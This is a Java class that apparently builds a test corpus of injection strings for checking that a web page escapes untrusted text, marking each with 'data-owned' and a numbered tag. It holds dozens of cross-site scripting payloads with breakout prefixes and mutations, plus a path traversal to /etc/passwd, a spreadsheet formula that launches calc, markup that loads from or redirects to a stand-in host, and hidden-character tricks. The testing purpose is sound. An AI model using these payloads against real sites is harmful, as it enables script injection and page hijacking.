package org.reftel.serve;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/// Texts that a page must show and never obey: script, markup, addresses, turned letters, control characters. Each
/// carries a number in plain letters, so that it can be found where it is shown, and marks what it makes with the
/// attribute `data-owned`.
final class Payloads {
    private static final List<String> SEEDS = List.of(
            "<script data-owned>owned=1;alert(1)</script>",
            "<script data-owned src=//evil.test/x.js></script>",
            "<img data-owned src=x onerror=alert(1)>",
            "<img data-owned src=//evil.test/pixel.png>",
            "<svg data-owned onload=alert(1)>",
            "<svg data-owned><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<iframe data-owned src=javascript:alert(1)></iframe>",
            "<iframe data-owned srcdoc='<script>alert(1)</script>'></iframe>",
            "<body data-owned onload=alert(1)>",
            "<a data-owned href=javascript:alert(1)>here</a>",
            "<a data-owned href='data:text/html,<script>alert(1)</script>'>here</a>",
            "<form data-owned action=//evil.test/><input name=q><button>Go</button></form>",
            "<input data-owned autofocus onfocus=alert(1)>",
            "<details data-owned open ontoggle=alert(1)>",
            "<video data-owned><source onerror=alert(1)></video>",
            "<math data-owned><mtext><img src=x onerror=alert(1)></mtext></math>",
            "<style data-owned>*{display:none}</style>",
            "<link data-owned rel=stylesheet href=//evil.test/x.css>",
            "<meta data-owned http-equiv=refresh content='0;url=//evil.test/'>",
            "<base data-owned href=//evil.test/>",
            "<object data-owned data=javascript:alert(1)></object>",
            "<embed data-owned src=javascript:alert(1)>",
            "<marquee data-owned onstart=alert(1)>words</marquee>",
            "<template data-owned><script>alert(1)</script></template>",
            "<button data-owned formaction=javascript:alert(1)>Go</button>",
            "<table data-owned background=javascript:alert(1)>",
            "<div data-owned style=position:fixed;inset:0;background:red>",
            "<p data-owned id=main>words</p>",
            "onmouseover=alert(1) data-owned x=",
            "javascript:alert(1)//data-owned",
            "{{constructor.constructor('alert(1)')()}} data-owned",
            "${alert(1)} @`data-owned` @if(true)",
            "<!-- data-owned --!><script>alert(1)</script>",
            "<![CDATA[<script data-owned>alert(1)</script>]]>",
            "&lt;script data-owned&gt;alert(1)&lt;/script&gt;",
            "&#60;script data-owned&#62;alert(1)&#60;/script&#62;",
            "%3Cscript data-owned%3Ealert(1)%3C/script%3E",
            "\\u003cscript data-owned\\u003ealert(1)\\u003c/script\\u003e",
            "http://evil.test/?data-owned",
            "//evil.test/data-owned",
            "../../../../etc/passwd data-owned",
            "\u202Etxet denrut\u202C data-owned",
            "\u2066<img data-owned src=x onerror=alert(1)>\u2069",
            "\u001B[2J\u001B]0;data-owned\u0007",
            "\u0000<script data-owned>alert(1)</script>",
            "\u200B\uFEFF<b data-owned>\u00AD</b>",
            "\uD800 half a pair data-owned",
            "<ScRiPt data-owned/x>alert(1)</sCrIpT>",
            "=cmd|' /C calc'!A0 data-owned",
            "<noscript><p data-owned title='</noscript><img src=x onerror=alert(1)>'>");

    /// What may have to be closed before markup can begin.
    private static final List<String> WAYS_OUT =
            List.of("", "\">", "'>", "\"'><", "</title>", "</textarea></script>", "--></style>", "\" autofocus \"");

    private Payloads() {}

    /// This many, each another.
    static List<String> first(int count) {
        var all = new ArrayList<String>(count);
        for (int i = 0; all.size() < count; i++) {
            var seed = SEEDS.get(i % SEEDS.size());
            var out = WAYS_OUT.get(i / SEEDS.size() % WAYS_OUT.size());
            all.add(mark(i) + " " + out + twist(seed, i / (SEEDS.size() * WAYS_OUT.size())));
        }
        return all;
    }

    /// `zq0042z`
    static String mark(int number) {
        return String.format(Locale.ROOT, "zq%04dz", number);
    }

    private static String twist(String seed, int way) {
        return switch (way % 5) {
            case 0 -> seed;
            case 1 -> seed.replace("<", "<\t").replace("=", " = ");
            case 2 -> seed.replace("alert", "\\u0061lert").replace('\'', '"');
            case 3 -> seed.replace("<", "<<").replace(">", ">>");
            default -> seed.toUpperCase(Locale.ROOT).replace("DATA-OWNED", "data-owned");
        };
    }
}
